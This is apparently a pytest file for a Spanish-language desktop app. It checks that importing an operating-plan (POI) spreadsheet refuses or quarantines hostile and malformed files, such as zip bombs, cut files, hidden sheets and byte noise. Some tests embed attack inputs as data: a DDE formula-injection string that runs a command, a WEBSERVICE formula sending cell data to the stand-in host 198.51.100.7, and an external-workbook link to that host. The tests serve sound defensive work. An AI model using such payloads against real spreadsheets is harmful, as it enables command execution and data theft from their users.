"""Files that would harm, deceive or simply are something else, brought to the import of the POI.

Each ends with one sentence that says what happened, or with findings of the rows it spoils; where nothing could be
imported the database is as it was.
"""

import random
from collections.abc import Callable
from contextlib import suppress
from datetime import date, datetime
from typing import Any

import pytest
from poi_books import bytes_of
from poi_hostile import MAIN, REFUSED, YEAR, grid, parts_of, rows, text_file, workbook, zipped
from poi_office import PoiOffice, small_year
from sqlalchemy import select

from sisfoh_desktop.basics.actor import Actor
from sisfoh_desktop.basics.errors import SisfohError
from sisfoh_desktop.db.base import Base
from sisfoh_desktop.db.database import Database
from sisfoh_desktop.modules.poi.rules.import_plan import ImportPlan
from sisfoh_desktop.modules.poi.service import importing, plans, quarantine, versions


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("case", REFUSED)
def test_nothing_is_imported_of_a_file_that_is_no_safe_table(
    db: Database, actor: Actor, now: datetime, case: str
) -> None:
    name, make, words = REFUSED[case]
    before = everything(db)
    with pytest.raises(SisfohError) as refused:
        importing.import_file(db, actor=actor, now=now, year=YEAR, file_name=name, data=make())
    sentence = refused.value.sentence
    assert words in sentence
    assert "no se leyó nada" in sentence or "no se importó nada" in sentence
    assert "Traceback" not in sentence
    assert "\n" not in sentence
    assert everything(db) == before


def everything(db: Database) -> dict[str, list[tuple[Any, ...]]]:
    """All that the database holds."""
    with db.reading() as session:
        return {
            table.name: [tuple(row) for row in session.execute(select(table))]
            for table in Base.metadata.sorted_tables
        }


# --- files that are read, with what they spoil told ---


def look(db: Database, now: datetime, data: bytes, name: str = "poi.xlsx") -> ImportPlan:
    return importing.check_file(db, year=YEAR, file_name=name, data=data, now=now)


def spoiled(value: Any) -> list[list[Any]]:
    """The table with its first activity's February programmed replaced."""
    cells, table = rows(), grid()
    cells[table.place[0] - 1][table.first_figure] = value
    return cells


def titles(db: Database, actor: Actor, now: datetime, data: bytes, name: str) -> list[str]:
    result = importing.import_file(db, actor=actor, now=now, year=YEAR, file_name=name, data=data)
    version = versions.version_on_view(db, result.plan_id)
    assert version is not None
    return [one.title for one in versions.load_programme(db, version.id)]


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("poi.xls", workbook),
        ("poi.xlsx", lambda: text_file(rows(), "cp1252")),
        ("poi.csv", lambda: text_file(rows(), "utf-16")),
        ("poi.txt", lambda: text_file(rows(), "utf-8-sig", "\t")),
        ("poi.csv", lambda: text_file(rows(), "utf-8", ",")),
        ("poi", lambda: bytes_of([grid()], "ods")),
    ],
    ids=["xlsx as xls", "cp1252 as xlsx", "utf-16", "utf-8 with mark", "commas", "ods without a name"],
)
def test_a_sound_table_in_any_dress_imports_whole(
    db: Database, actor: Actor, now: datetime, name: str, make: Callable[[], bytes]
) -> None:
    assert titles(db, actor, now, make(), name) == [one.activity.title for one in small_year(YEAR).activities]


@pytest.mark.parametrize(
    ("value", "words"),
    [
        ("nan", "nan"), ("inf", "inf"), ("1e400", "1e400"), ("-5", "negativo"), ("7.040", "7.040"), ("#REF!", "#REF!"),
        ("41 18 230.00", "41 18 230.00"), ("02/03/2024", "02/03/2024"), ("3 (tres)", "3 (tres)"),
        ("१२", "no se puede leer"),
        ("=1+1", "no se puede leer"), ("s/d", "s/d"), (date(2024, 3, 2), "no se puede leer"),
        (True, "no se puede leer"), ("9" * 60, "no se puede leer"),
    ],
    ids=str,
)  # fmt: skip
def test_a_cell_that_is_no_figure_sends_its_row_to_quarantine(
    db: Database, actor: Actor, now: datetime, value: Any, words: str
) -> None:
    plan = look(db, now, workbook(spoiled(value)))
    waiting = [one for one in plan.checked.rows if one.findings]
    assert len(waiting) == 1
    assert words in " ".join(one.text for one in waiting[0].findings)
    assert "FEB programado" in waiting[0].findings[0].text
    assert plan.accepted == plan.rows - 1
    result = importing.import_file(
        db, actor=actor, now=now, year=YEAR, file_name="poi.xlsx", data=workbook(spoiled(value))
    )
    assert (result.accepted, result.quarantined) == (plan.rows - 1, 1)
    assert len(quarantine.list_quarantine(db, result.plan_id)) == 1


def test_a_date_that_stands_for_a_figure_never_becomes_its_serial_number(db: Database, now: datetime) -> None:
    """3-2 typed in a sheet turns into the third of February; 45325 is no goal."""
    plan = look(db, now, workbook(spoiled(datetime(2024, 2, 3))))
    assert plan.quarantined == 1
    assert "45325" not in " ".join(one.text for row in plan.checked.rows for one in row.findings)


@pytest.mark.parametrize(
    "text", ["=cmd|' /C calc'!A0", "+51 999", "-2+3", "@SUM(A1)", 'dice «"hola";' + '"" y calla»', "<b>&lt;"]
)
def test_texts_that_look_like_formulas_stay_texts(
    db: Database, actor: Actor, now: datetime, text: str
) -> None:
    cells, table = rows(), grid()
    cells[table.place[0] - 1][2] = text
    assert titles(db, actor, now, text_file(cells), "poi.csv")[0] == text


def test_a_formula_counts_as_the_value_that_was_saved_and_without_one_as_unreadable(
    db: Database, now: datetime
) -> None:
    def change(_: Any, sheet: Any) -> None:
        table = grid()
        sheet.cell(table.place[0], table.first_figure + 1).value = '=WEBSERVICE("http://198.51.100.7/"&A1)'

    plan = look(db, now, workbook(change=change))
    (waiting,) = [one for one in plan.checked.rows if one.findings]
    assert waiting.findings[0].rule == "cell_unreadable"
    assert len(waiting.readings) == 1  # its quarter tells it


def test_links_to_other_books_are_not_followed(db: Database, now: datetime) -> None:
    link = (
        f'<?xml version="1.0"?><externalLink xmlns="{MAIN}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships"><externalBook r:id="rId1"/></externalLink>'
    )
    there = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'externalLinkPath" Target="file:///198.51.100.7/x.xlsx" TargetMode="External"/></Relationships>'
    )
    parts = {
        **parts_of(workbook()),
        "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": there.encode(),
    }
    plan = look(db, now, zipped(parts))
    assert plan.quarantined == 0
    assert plan.accepted == plan.rows == 12


def test_hidden_sheets_are_named_and_never_imported(db: Database, now: datetime) -> None:
    def change(book: Any, _: Any) -> None:
        secret = book.create_sheet("Borrador")
        for row in rows():
            secret.append(row)
        secret.sheet_state = "veryHidden"

    plan = look(db, now, workbook(change=change))
    assert plan.rows == 12
    assert any("Borrador" in one for one in (*plan.notes, *plan.checked.file.notes))


def test_hidden_rows_are_part_of_the_table_and_said(db: Database, now: datetime) -> None:
    def change(_: Any, sheet: Any) -> None:
        sheet.row_dimensions[grid().place[3]].hidden = True

    plan = look(db, now, workbook(change=change))
    assert plan.rows == 12
    assert any("ocult" in one for one in (*plan.notes, *plan.checked.file.notes))


def test_two_tables_in_one_sheet_never_mix_their_columns(db: Database, now: datetime) -> None:
    other = [["DNI", "NOMBRE", "CARGO"], ["40000001", "PEÑA", "JEFE"], ["40000002", "RÍOS", "TÉCNICO"]]
    plan = look(db, now, workbook([*rows(), [], [], *other]))
    assert plan.accepted == 12
    assert plan.rows == plan.accepted + plan.quarantined + plan.rejected
    assert not any("PEÑA" in one.row.text("title") for one in plan.checked.rows if not one.findings)


def test_figures_merged_across_months_are_not_guessed(db: Database, now: datetime) -> None:
    def change(_: Any, sheet: Any) -> None:
        table = grid()
        row, first = table.place[0], table.first_figure
        sheet.merge_cells(start_row=row, start_column=first, end_row=row, end_column=first + 2)

    plan = look(db, now, workbook(change=change))
    (waiting,) = [one for one in plan.checked.rows if one.findings]
    assert waiting.row.row == grid().place[0]


def test_noise_of_every_kind_is_refused_or_read_and_never_anything_else(
    db: Database, now: datetime, actor: Actor
) -> None:
    noise = random.Random(7)
    whole = workbook()
    before = everything(db)
    for _ in range(12):
        data = bytearray(whole)
        for _ in range(noise.randint(1, 30)):
            data[noise.randrange(len(data))] = noise.randrange(256)
        with suppress(SisfohError):
            assert look(db, now, bytes(data)).rows <= 13
    assert everything(db) == before


def test_a_refused_file_leaves_a_poi_that_is_there_as_it_was(
    db: Database, actor: Actor, now: datetime, poi_office: PoiOffice
) -> None:
    before = everything(db)
    for case in ("a zip bomb", "another table", "a file cut in two"):
        name, make, _ = REFUSED[case]
        with pytest.raises(SisfohError):
            importing.import_file(db, actor=actor, now=now, year=YEAR, file_name=name, data=make())
    assert everything(db) == before
    assert [one.year for one in plans.list_plans(db)] == [YEAR]
